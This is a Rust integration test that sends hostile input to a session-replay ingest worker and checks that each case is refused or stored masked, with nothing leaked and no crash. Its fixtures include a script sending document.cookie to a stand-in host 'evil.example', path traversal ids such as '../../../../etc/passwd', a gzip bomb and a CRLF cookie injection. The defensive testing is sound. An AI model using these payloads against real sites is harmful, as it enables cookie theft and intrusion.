//! Hostile input through the real worker on local workerd: every case gets a clear
//! 4xx JSON error (or, where the input is legal but nasty, is stored masked), nothing of a
//! refused beacon is stored, the next good beacon is accepted, and the worker never crashes.
//! The table printed at the end lists case → status / code.

use std::io::Write;
use std::time::Instant;

use crate::support::{beacon, gzip, id, raw_request, Reply, XorShift};
use serde_json::{json, Value};

/// Scans everything its worker stored and logged, so it has a worker of its own.
fn worker() -> &'static crate::support::Worker {
    static W: std::sync::OnceLock<crate::support::Worker> = std::sync::OnceLock::new();
    crate::support::own_worker(&W)
}

const ORIGIN: &str = "http://localhost:8787";
const LOCAL: (&str, &str) = ("Origin", ORIGIN);
const TEXT: (&str, &str) = ("Content-Type", "text/plain;charset=UTF-8");
const TS: u64 = 1_800_000_000_000;

fn small_events() -> Value {
    json!([
        {"type": 4, "data": {"href": "http://localhost:8787/x", "width": 800, "height": 600}, "timestamp": TS},
        {"type": 3, "data": {"source": 1, "positions": [{"x": 1, "y": 2, "id": 5, "timeOffset": 0}]}, "timestamp": TS + 10}
    ])
}

/// A good beacon of a fresh session, as a JSON value to break.
fn good(session: &str) -> Value {
    serde_json::from_slice(&beacon(session, &id("v"), 0, "web", &small_events())).unwrap()
}

fn bytes(v: &Value) -> Vec<u8> {
    v.to_string().into_bytes()
}

/// `good` with `"events"` replaced by raw JSON text (to plant what `json!` cannot build).
fn with_raw_events(session: &str, events: &str) -> Vec<u8> {
    let mut b = good(session);
    b["events"] = json!("@@EVENTS@@");
    b.to_string().replace("\"@@EVENTS@@\"", events).into_bytes()
}

fn ingest(body: &[u8], headers: &[(&str, &str)]) -> Reply {
    worker().post("/v1/ingest/demo", headers, body)
}

/// A minimal rrweb full snapshot: html > body > `children`.
fn snapshot(children: Value) -> Value {
    json!({"type": 2, "timestamp": TS + 1, "data": {
        "initialOffset": {"left": 0, "top": 0},
        "node": {"type": 0, "id": 1, "childNodes": [
            {"type": 1, "name": "html", "publicId": "", "systemId": "", "id": 2},
            {"type": 2, "tagName": "html", "attributes": {}, "id": 3, "childNodes": [
                {"type": 2, "tagName": "body", "attributes": {}, "id": 4, "childNodes": children}
            ]}
        ]}
    }})
}

fn text_node(id: u64, text: &str) -> Value {
    json!({"type": 3, "textContent": text, "id": id})
}

fn element(id: u64, tag: &str, attributes: Value, children: Value) -> Value {
    json!({"type": 2, "tagName": tag, "attributes": attributes, "childNodes": children, "id": id})
}

/// A data-URL image of `len` base64 characters starting with `marker`.
fn data_url(marker: &str, len: usize, seed: u64) -> String {
    const B64: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut rng = XorShift(seed);
    let mut s = String::with_capacity(len + 32);
    s.push_str("data:image/png;base64,");
    s.push_str(marker);
    while s.len() < len {
        s.push(B64[rng.below(64)] as char);
    }
    s
}

/// Gzip of `prefix` + `n` bytes of `fill`, streamed (the plain text is never in memory).
fn gzip_stream(prefix: &[u8], fill: u8, n: usize) -> Vec<u8> {
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    enc.write_all(prefix).unwrap();
    let block = vec![fill; 1 << 20];
    let mut left = n;
    while left > 0 {
        let k = left.min(block.len());
        enc.write_all(&block[..k]).unwrap();
        left -= k;
    }
    enc.finish().unwrap()
}

/// Breaks a good beacon in one way.
type Breaker = dyn Fn(&mut Value);

struct Row {
    case: String,
    status: u16,
    code: String,
    ok: bool,
    note: String,
}

#[derive(Default)]
struct Run {
    rows: Vec<Row>,
    /// Session ids of refused beacons: nothing of them may be stored.
    refused: Vec<String>,
    /// Values planted in accepted beacons that must not reach storage or logs.
    planted: Vec<String>,
}

impl Run {
    fn row(&mut self, case: &str, r: &Reply, problems: Vec<String>, note: String) {
        let code = match serde_json::from_slice::<Value>(&r.body) {
            Ok(v) if v["error"]["code"].is_string() => v["error"]["code"].as_str().unwrap().into(),
            Ok(v) if v["stored"].is_boolean() => format!("stored:{}", v["stored"]),
            _ => format!("(not JSON: {:.60})", r.text()),
        };
        let ok = problems.is_empty();
        let note = if ok {
            note
        } else {
            format!("{note} FAILED: {}", problems.join("; "))
        };
        println!("case {case}: {} {code} {note}", r.status);
        self.rows.push(Row {
            case: case.into(),
            status: r.status,
            code,
            ok,
            note,
        });
        // The worker keeps serving: a good beacon right after every case.
        let s = id("s");
        let next = ingest(&bytes(&good(&s)), &[LOCAL, TEXT]);
        if next.status != 202 || next.json() != json!({"stored": true, "seq": 0}) {
            self.rows.last_mut().unwrap().ok = false;
            self.rows.last_mut().unwrap().note +=
                &format!(" FAILED: next good beacon {} {}", next.status, next.text());
        }
    }

    /// A refusal: this status and code in the documented error shape, with CORS for the
    /// page's SDK, and nothing of `session` stored.
    fn refused(&mut self, case: &str, session: &str, want: (u16, &str), r: Reply) {
        let mut problems = Vec::new();
        let err = serde_json::from_slice::<Value>(&r.body).ok();
        let code = err.as_ref().and_then(|v| v["error"]["code"].as_str());
        let message = err.as_ref().and_then(|v| v["error"]["message"].as_str());
        if (r.status, code) != (want.0, Some(want.1)) {
            problems.push(format!(
                "want {} {}, got {} {}",
                want.0,
                want.1,
                r.status,
                r.text()
            ));
        }
        if message.is_none_or(str::is_empty) {
            problems.push("no error message".into());
        }
        if let Some(m) = self.manifest_status(session) {
            problems.push(format!("manifest of the refused session: {m}"));
        }
        self.refused.push(session.to_string());
        self.row(case, &r, problems, String::new());
    }

    /// Legal but nasty: accepted (202 stored:true) and stored masked.
    fn accepted(&mut self, case: &str, session: &str, r: Reply, note: String) {
        let mut problems = Vec::new();
        if r.status != 202
            || serde_json::from_slice::<Value>(&r.body).ok()
                != Some(json!({"stored": true, "seq": 0}))
        {
            problems.push(format!("want 202 stored, got {} {}", r.status, r.text()));
        } else if self.manifest_status(session) != Some(200) {
            problems.push("accepted but no manifest".into());
        }
        self.row(case, &r, problems, note);
    }

    /// Status of the session's manifest, `None` when it does not exist (404).
    fn manifest_status(&self, session: &str) -> Option<u16> {
        if !common_id_ok(session) {
            return None;
        }
        let m = worker().get(
            &format!("/v1/projects/demo/sessions/{session}"),
            "demo-read",
        );
        (m.status != 404).then_some(m.status)
    }
}

/// Only ids that can name a session are worth asking the read API about.
fn common_id_ok(s: &str) -> bool {
    (8..=64).contains(&s.len())
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
}

/// The stored chunk of an accepted session, as text.
fn stored_chunk(session: &str) -> String {
    let r = worker().get(
        &format!("/v1/projects/demo/sessions/{session}/chunks/0"),
        "demo-read",
    );
    assert_eq!(r.status, 200, "{}", r.text());
    r.text()
}

fn contains(hay: &[u8], needle: &str) -> bool {
    hay.windows(needle.len()).any(|w| w == needle.as_bytes())
}

/// A full snapshot carrying live script is stored without it (read API),
/// its nodes kept so the replay still renders.
#[test]
fn live_script_in_a_snapshot_is_neutralized_before_storage() {
    let s = id("s");
    let page = json!([
        {"type": 2, "tagName": "script", "attributes": {}, "id": 10, "childNodes": [
            text_node(11, "fetch('//evil.example/'+document.cookie)")]},
        {"type": 2, "tagName": "img", "attributes": {"src": "/a.png", "onerror": "fetch('//evil.example/img')"}, "id": 12, "childNodes": []},
        {"type": 2, "tagName": "a", "attributes": {"href": "javascript:fetch('//evil.example/a')"}, "id": 13, "childNodes": [text_node(14, "Open")]},
        {"type": 2, "tagName": "iframe", "attributes": {"srcdoc": "<script>fetch('//evil.example/f')</script>"}, "id": 15, "childNodes": []}
    ]);
    let events = json!([
        {"type": 4, "data": {"href": "http://localhost:8787/x", "width": 800, "height": 600}, "timestamp": TS},
        snapshot(page)
    ]);
    let r = ingest(&beacon(&s, &id("v"), 0, "web", &events), &[LOCAL, TEXT]);
    assert_eq!(r.status, 202, "{}", r.text());
    let stored = stored_chunk(&s);
    for bad in [
        "evil.example",
        "document.cookie",
        "onerror",
        "javascript:",
        "srcdoc",
        "<script>",
    ] {
        assert!(!stored.contains(bad), "{bad:?} stored: {stored}");
    }
    let chunk: Value = serde_json::from_str(&stored).unwrap();
    let text = chunk.to_string();
    for kept in [
        "\"SCRIPT_PLACEHOLDER\"",
        "\"tagName\":\"iframe\"",
        "\"src\":\"/a.png\"",
        "\"href\":\"about:blank#blocked\"",
        "\"textContent\":\"Open\"",
    ] {
        assert!(text.contains(kept), "{kept} missing: {text}");
    }
}

#[test]
fn hostile_inputs_get_clear_errors_and_the_worker_keeps_serving() {
    let started = Instant::now();
    let mut run = Run::default();
    worker();

    // ---- malformed bodies --------------------------------------------------------------
    let s = id("s");
    let body = bytes(&good(&s));
    run.refused(
        "truncated JSON",
        &s,
        (400, "malformed_json"),
        ingest(&body[..body.len() / 2], &[LOCAL, TEXT]),
    );

    let s = id("s");
    let gz = gzip(&bytes(&good(&s)));
    run.refused(
        "truncated gzip",
        &s,
        (400, "invalid_gzip"),
        ingest(
            &gz[..gz.len() / 2],
            &[LOCAL, TEXT, ("Content-Encoding", "gzip")],
        ),
    );

    let s = id("s");
    run.refused(
        "empty body",
        &s,
        (400, "malformed_json"),
        ingest(b"", &[LOCAL, TEXT]),
    );

    let s = id("s");
    let deep = format!(
        "[{{\"type\":3,\"data\":{{\"source\":0,\"x\":{}{}}},\"timestamp\":{TS}}}]",
        "[".repeat(10_000),
        "]".repeat(10_000)
    );
    run.refused(
        "depth 10,000 inside events",
        &s,
        (400, "too_deep"),
        ingest(&with_raw_events(&s, &deep), &[LOCAL, TEXT]),
    );

    let s = id("s");
    let mut body = bytes(&good(&s));
    let at = body.windows(5).position(|w| w == b"/demo").unwrap();
    body.splice(at + 1..at + 1, [0xff, 0xfe, 0xc3]);
    run.refused(
        "invalid UTF-8 in page",
        &s,
        (400, "invalid_utf8"),
        ingest(&body, &[LOCAL, TEXT]),
    );

    let s = id("s");
    let mut body = with_raw_events(
        &s,
        &format!(
            "[{{\"type\":5,\"data\":{{\"tag\":\"x\",\"payload\":\"ab@@\"}},\"timestamp\":{TS}}}]"
        ),
    );
    let at = body.windows(2).position(|w| w == b"@@").unwrap();
    body.splice(at..at + 2, [0xc0, 0x80]); // overlong NUL
    run.refused(
        "invalid UTF-8 (overlong NUL) in an event",
        &s,
        (400, "invalid_utf8"),
        ingest(&body, &[LOCAL, TEXT]),
    );

    // ---- wrong types ---------------------------------------------------------------------
    let typed: Vec<(&str, &Breaker, (u16, &str))> = vec![
        (
            "seq as string",
            &|b| b["seq"] = json!("0"),
            (400, "malformed_json"),
        ),
        (
            "seq negative",
            &|b| b["seq"] = json!(-1),
            (400, "malformed_json"),
        ),
        (
            "seq over the maximum",
            &|b| b["seq"] = json!(99_999_999u64),
            (400, "invalid_seq"),
        ),
        (
            "events an object",
            &|b| b["events"] = json!({"type": 3}),
            (400, "invalid_events"),
        ),
        (
            "events a string",
            &|b| b["events"] = json!("[]"),
            (400, "invalid_events"),
        ),
        (
            "events empty",
            &|b| b["events"] = json!([]),
            (400, "invalid_events"),
        ),
        (
            "platform unknown",
            &|b| b["platform"] = json!("tv"),
            (400, "malformed_json"),
        ),
        (
            "platform a number",
            &|b| b["platform"] = json!(1),
            (400, "malformed_json"),
        ),
        (
            "timestamp a string",
            &|b| b["events"][1]["timestamp"] = json!("1700000000000"),
            (400, "invalid_events"),
        ),
        (
            "timestamp negative",
            &|b| b["events"][1]["timestamp"] = json!(-5),
            (400, "invalid_events"),
        ),
        (
            "event type 99",
            &|b| b["events"][1]["type"] = json!(99),
            (400, "invalid_events"),
        ),
        (
            "event type 300",
            &|b| b["events"][1]["type"] = json!(300),
            (400, "invalid_events"),
        ),
        (
            "event without data",
            &|b| {
                b["events"][1].as_object_mut().unwrap().remove("data");
            },
            (400, "invalid_events"),
        ),
        (
            "session missing",
            &|b| {
                b.as_object_mut().unwrap().remove("session");
            },
            (400, "malformed_json"),
        ),
        (
            "body a JSON array",
            &|b| *b = json!([1, 2]),
            (400, "malformed_json"),
        ),
    ];
    for (case, break_it, want) in typed {
        let s = id("s");
        let mut b = good(&s);
        break_it(&mut b);
        run.refused(case, &s, want, ingest(&bytes(&b), &[LOCAL, TEXT]));
    }

    // ---- sizes -----------------------------------------------------------------------------
    let s = id("s");
    let events: Vec<Value> = (0..10_001)
        .map(|i| json!({"type": 3, "data": {"source": 1}, "timestamp": TS + i}))
        .collect();
    let mut b = good(&s);
    b["events"] = Value::Array(events);
    run.refused(
        "10,001 events",
        &s,
        (413, "too_many_events"),
        ingest(&bytes(&b), &[LOCAL, TEXT]),
    );

    // 20 MB in one event: refused on Content-Length, before the body is read (raw socket: the
    // server may answer while the body is still being written).
    let s = id("s");
    let big = with_raw_events(
        &s,
        &format!(
            "[{{\"type\":5,\"data\":{{\"tag\":\"big\",\"payload\":\"{}\"}},\"timestamp\":{TS}}}]",
            "a".repeat(20 << 20)
        ),
    );
    let t = Instant::now();
    let r = worker().raw(raw_request(
        "POST",
        "/v1/ingest/demo",
        &[
            ("Origin", ORIGIN.as_bytes()),
            ("Content-Type", b"text/plain"),
        ],
        &big,
    ));
    let secs = t.elapsed().as_secs_f64();
    run.refused("20 MB event", &s, (413, "body_too_large"), r);
    run.rows.last_mut().unwrap().note += &format!("{} bytes, answered in {secs:.1} s", big.len());

    let s = id("s");
    let gz = gzip(&big_for(&s, 20 << 20));
    let gz_len = gz.len();
    run.refused(
        "20 MB event, gzip",
        &s,
        (413, "decompressed_too_large"),
        ingest(&gz, &[LOCAL, TEXT, ("Content-Encoding", "gzip")]),
    );
    run.rows.last_mut().unwrap().note += &format!("{gz_len} bytes on the wire");

    // A gzip bomb: 256 MiB of '0' in ~260 KB; inflating stops at the 4 MiB cap.
    let s = id("s");
    let prefix = format!(
        "{{\"session\":\"{s}\",\"visitor\":\"{}\",\"seq\":0,\"platform\":\"web\",\"events\":[{{\"type\":5,\"data\":{{\"x\":\"",
        id("v")
    );
    let bomb = gzip_stream(prefix.as_bytes(), b'0', 256 << 20);
    let bomb_len = bomb.len();
    let t = Instant::now();
    let r = worker().post("/v1/ingest/demo?enc=gzip", &[LOCAL, TEXT], &bomb);
    let secs = t.elapsed().as_secs_f64();
    run.refused(
        "gzip bomb (256 MiB inflated)",
        &s,
        (413, "decompressed_too_large"),
        r,
    );
    run.rows.last_mut().unwrap().note +=
        &format!("{bomb_len} bytes on the wire, answered in {secs:.1} s");

    // One repeated character compresses far past the inflation bound (32x past 256 KiB), so
    // the ratio refuses it while inflating, before any string is read.
    let s = id("s");
    let gz = gzip(&big_for(&s, 2 << 20));
    run.refused(
        "2 MB string, gzip",
        &s,
        (413, "decompressed_too_large"),
        ingest(&gz, &[LOCAL, TEXT, ("Content-Encoding", "gzip")]),
    );

    // ---- ids and keys ------------------------------------------------------------------------
    for (case, bad) in [
        ("session ../../", "../../../../etc/passwd"),
        ("session with NUL", "s_1234\u{0}5678"),
        ("session with %2F", "s_12%2F..%2F5678"),
        ("session with /", "s_1234/../5678"),
        ("session 65 chars", &"s".repeat(65)),
        ("session non-ASCII", "s_1234ä5678"),
    ] {
        let mut b = good(&id("s"));
        b["session"] = json!(bad);
        run.refused(
            case,
            bad,
            (400, "invalid_id"),
            ingest(&bytes(&b), &[LOCAL, TEXT]),
        );
    }
    for (case, bad) in [
        ("visitor ../../", "../../../../etc/passwd"),
        ("visitor with NUL", "v_1234\u{0}5678"),
        ("visitor with %2F", "v_12%2F..%2F5678"),
    ] {
        let s = id("s");
        let mut b = good(&s);
        b["visitor"] = json!(bad);
        run.refused(
            case,
            &s,
            (400, "invalid_id"),
            ingest(&bytes(&b), &[LOCAL, TEXT]),
        );
    }
    for (case, path) in [
        ("key ..%2F in ingest path", "/v1/ingest/..%2Fdemo"),
        ("key %2F in ingest path", "/v1/ingest/demo%2F..%2Fdemo-web"),
        ("key NUL in ingest path", "/v1/ingest/de%00mo"),
    ] {
        let s = id("s");
        let r = worker().post(path, &[LOCAL, TEXT], &bytes(&good(&s)));
        run.refused(case, &s, (401, "unauthorized"), r);
    }
    // WHATWG URL parsing treats `%2E%2E` as a `..` segment: `/v1/ingest/%2E%2E` is `/v1/`,
    // which is no route at all.
    let s = id("s");
    let r = worker().post("/v1/ingest/%2E%2E", &[LOCAL, TEXT], &bytes(&good(&s)));
    run.refused("key %2E%2E in ingest path", &s, (404, "not_found"), r);
    run.rows.last_mut().unwrap().note += "normalized to /v1/";
    // The same on the read side, with a valid token: no way out of the project.
    let s = id("s");
    let r = worker().get("/v1/projects/..%2Fdemo-web/sessions", "demo-read");
    run.refused("key ..%2F in read path", &s, (401, "unauthorized"), r);
    let r = worker().get(
        "/v1/projects/demo/sessions/..%2F..%2Fdemo-web%2Fx/events",
        "demo-read",
    );
    run.refused("session ..%2F in read path", &s, (404, "not_found"), r);
    let r = worker().get("/v1/projects/demo/sessions/s_1234%005678", "demo-read");
    run.refused("session NUL in read path", &s, (404, "not_found"), r);

    // ---- media type and encoding ---------------------------------------------------------------
    let s = id("s");
    run.refused(
        "Content-Type multipart/form-data",
        &s,
        (415, "unsupported_media_type"),
        ingest(
            &bytes(&good(&s)),
            &[LOCAL, ("Content-Type", "multipart/form-data; boundary=x")],
        ),
    );
    let s = id("s");
    run.refused(
        "Content-Type text/html",
        &s,
        (415, "unsupported_media_type"),
        ingest(&bytes(&good(&s)), &[LOCAL, ("Content-Type", "text/html")]),
    );
    let s = id("s");
    run.refused(
        "Content-Encoding br",
        &s,
        (415, "unsupported_encoding"),
        ingest(
            &bytes(&good(&s)),
            &[LOCAL, TEXT, ("Content-Encoding", "br")],
        ),
    );
    let s = id("s");
    run.refused(
        "?enc=deflate",
        &s,
        (415, "unsupported_encoding"),
        worker().post(
            "/v1/ingest/demo?enc=deflate",
            &[LOCAL, TEXT],
            &bytes(&good(&s)),
        ),
    );

    // ---- cookies: never 5xx, never stored ---------------------------------------------------
    let mut garbage = String::from("cookieplanted_q7x=");
    let mut rng = XorShift(7);
    while garbage.len() < 10_240 {
        garbage.push((b'!' + rng.below(94) as u8) as char);
    }
    let garbage = garbage.replace(';', ":");
    let cookies: Vec<(&str, Vec<u8>)> = vec![
        ("Cookie ;;;", b";;;".to_vec()),
        ("Cookie ; = ;=;==", b"; = ;=;==; ;".to_vec()),
        ("Cookie 10 KB garbage", garbage.clone().into_bytes()),
        (
            "Cookie euconsent-v2= x100",
            "euconsent-v2=; ".repeat(100).into_bytes(),
        ),
        (
            "Cookie euconsent-v2=garbage x100",
            "euconsent-v2=CPplantedGARBAGE!!; ".repeat(100).into_bytes(),
        ),
        (
            "Cookie non-ASCII UTF-8",
            "OptanonConsent=groups=C0002:1; name=Jäne✓cookieplanted_utf8"
                .as_bytes()
                .to_vec(),
        ),
        (
            "Cookie Latin-1 bytes",
            b"CookieConsent={stamp:'\xe9\xff'}; x=cookieplanted_latin1\xe9".to_vec(),
        ),
        (
            "Cookie %0D%0A-encoded injection",
            b"vg_optout=0%0D%0ASet-Cookie:%20cookieplanted_crlf=1".to_vec(),
        ),
    ];
    for (case, cookie) in cookies {
        let s = id("s");
        let r = worker().raw(raw_request(
            "POST",
            "/v1/ingest/demo",
            &[
                ("Origin", ORIGIN.as_bytes()),
                ("Content-Type", b"text/plain"),
                ("Cookie", &cookie),
            ],
            &bytes(&good(&s)),
        ));
        let mut problems = Vec::new();
        if r.status != 202 {
            problems.push(format!("want 202, got {} {}", r.status, r.text()));
        }
        if r.header("Set-Cookie").is_some() {
            problems.push("answered with Set-Cookie".into());
        }
        run.row(case, &r, problems, format!("{} bytes", cookie.len()));
    }
    run.planted.extend(
        [
            "cookieplanted_q7x",
            "cookieplanted_utf8",
            "cookieplanted_latin1",
            "cookieplanted_crlf",
            "CPplantedGARBAGE",
        ]
        .map(String::from),
    );

    // ---- legal but nasty: stored masked, nothing planted leaks ------------------------------
    let s = id("s");
    let dupes = snapshot(json!([
        element(
            10,
            "p",
            json!({}),
            json!([text_node(11, "Write to dupe.text.planted@example.com")])
        ),
        element(
            10,
            "input",
            json!({"type": "text", "value": "dupe.value.planted@example.com"}),
            json!([])
        ),
        text_node(11, "call +49 170 5550123 dupe.phone.planted"),
        element(
            10,
            "textarea",
            json!({}),
            json!([text_node(11, "dupe.area.planted@example.com")])
        ),
    ]));
    let typed = json!({"type": 3, "timestamp": TS + 2,
        "data": {"source": 5, "text": "dupe.typed.planted@example.com", "isChecked": false, "id": 10}});
    let mut b = good(&s);
    b["events"] = json!([small_events()[0], dupes, typed]);
    let r = ingest(&bytes(&b), &[LOCAL, TEXT]);
    run.accepted(
        "duplicate node ids in a full snapshot",
        &s,
        r,
        String::new(),
    );
    let chunk = stored_chunk(&s);
    for p in [
        "dupe.text.planted@example.com",
        "dupe.value.planted@example.com",
        "5550123",
        "dupe.area.planted@example.com",
        "dupe.typed.planted@example.com",
    ] {
        assert!(!chunk.contains(p), "duplicate ids: {p} stored");
        run.planted.push(p.into());
    }

    let s = id("s");
    let filler = "lorem ipsum dolor sit amet ".repeat(600_000 / 27);
    let title = format!(
        "{}huge.attr.planted@example.com {}",
        &filler[..300_000],
        &filler[300_000..]
    );
    let mut b = good(&s);
    b["events"] = json!([
        small_events()[0],
        snapshot(json!([element(
            20,
            "div",
            json!({"title": title, "data-note": "x"}),
            json!([])
        )]))
    ]);
    let body = bytes(&b);
    let r = ingest(&body, &[LOCAL, TEXT]);
    let len = body.len();
    run.accepted(
        "600 KB attribute value",
        &s,
        r,
        format!("{len} bytes; title kept, its email masked"),
    );
    let chunk = stored_chunk(&s);
    assert!(!chunk.contains("huge.attr.planted@example.com"));
    assert!(
        chunk.contains("lorem ipsum dolor sit amet"),
        "title dropped"
    );
    run.planted.push("huge.attr.planted@example.com".into());

    // A megabyte data-URL image: a site asset outside masked areas (kept, docs/PRIVACY.md
    // "Images and canvas"), dropped inside a masked one.
    let s = id("s");
    let plain = data_url("PlainImagePlantedMarker", 1_000_000, 11);
    let masked = data_url("MaskedImagePlantedMarker", 1_000_000, 12);
    let mut b = good(&s);
    b["events"] = json!([
        small_events()[0],
        snapshot(json!([element(
            30,
            "img",
            json!({"src": plain, "alt": "avatar"}),
            json!([])
        ),]))
    ]);
    let gz = gzip(&bytes(&b));
    let gz_len = gz.len();
    let r = ingest(&gz, &[LOCAL, TEXT, ("Content-Encoding", "gzip")]);
    run.accepted(
        "1 MB base64 img src",
        &s,
        r,
        format!("{gz_len} gzip bytes; kept (a site asset)"),
    );
    let chunk = stored_chunk(&s);
    assert!(
        chunk.contains(&plain),
        "the data URL outside a masked area was changed"
    );

    let s = id("s");
    let mut b = good(&s);
    b["events"] = json!([
        small_events()[0],
        snapshot(json!([element(
            31,
            "div",
            json!({"class": "rr-mask"}),
            json!([element(32, "img", json!({"src": masked}), json!([])),])
        )]))
    ]);
    let gz = gzip(&bytes(&b));
    let gz_len = gz.len();
    let r = ingest(&gz, &[LOCAL, TEXT, ("Content-Encoding", "gzip")]);
    run.accepted(
        "1 MB base64 img src in .rr-mask",
        &s,
        r,
        format!("{gz_len} gzip bytes; dropped"),
    );
    let chunk = stored_chunk(&s);
    assert!(!chunk.contains("MaskedImagePlantedMarker"));
    run.planted.push("MaskedImagePlantedMarker".into());

    // ---- after all of it ------------------------------------------------------------------------
    let health = worker().request("GET", "/healthz", &[], None);
    let keys = worker().r2_keys();
    let state = worker().r2_objects();
    let log = worker().log_text();

    println!("\n| hostile case | status | code | |\n|---|---|---|---|");
    for r in &run.rows {
        println!(
            "| {} | {} | `{}` | {}{} |",
            r.case,
            r.status,
            r.code,
            if r.ok { "" } else { "**FAIL** " },
            r.note
        );
    }
    println!(
        "\n{} cases in {:.1} s; /healthz {}",
        run.rows.len(),
        started.elapsed().as_secs_f64(),
        health.status
    );

    let mut problems: Vec<String> = run
        .rows
        .iter()
        .filter(|r| !r.ok)
        .map(|r| format!("{}: {}", r.case, r.note))
        .collect();
    for r in &run.rows {
        if r.status >= 500 {
            problems.push(format!("{}: {}", r.case, r.status));
        }
    }
    if health.status != 200 {
        problems.push(format!("/healthz {}", health.status));
    }
    for s in &run.refused {
        if let Some(k) = keys.iter().find(|k| k.contains(s.as_str())) {
            problems.push(format!("refused session {s:?} stored: {k}"));
        }
    }
    for k in &keys {
        if k.contains("..") || k.contains('\0') || k.contains('%') || k.contains("etc/passwd") {
            problems.push(format!("hostile key in R2: {k:?}"));
        }
    }
    for p in &run.planted {
        for (path, b) in &state {
            if contains(b, p) {
                problems.push(format!("planted {p} found in {path}"));
            }
        }
        if log.contains(p.as_str()) {
            problems.push(format!("planted {p} in the wrangler log"));
        }
    }
    for bad in [
        "panicked",
        "panic",
        "RuntimeError: unreachable",
        "RuntimeError",
    ] {
        if log.contains(bad) {
            let line = log.lines().find(|l| l.contains(bad)).unwrap_or("");
            problems.push(format!("wrangler log shows {bad:?}: {line}"));
        }
    }
    for p in &problems {
        println!("PROBLEM: {p}");
    }
    assert!(problems.is_empty(), "{} problems (above)", problems.len());
}

/// A beacon whose one custom event carries a string of `n` bytes.
fn big_for(session: &str, n: usize) -> Vec<u8> {
    with_raw_events(
        session,
        &format!(
            "[{{\"type\":5,\"data\":{{\"tag\":\"big\",\"payload\":\"{}\"}},\"timestamp\":{TS}}}]",
            "a".repeat(n)
        ),
    )
}
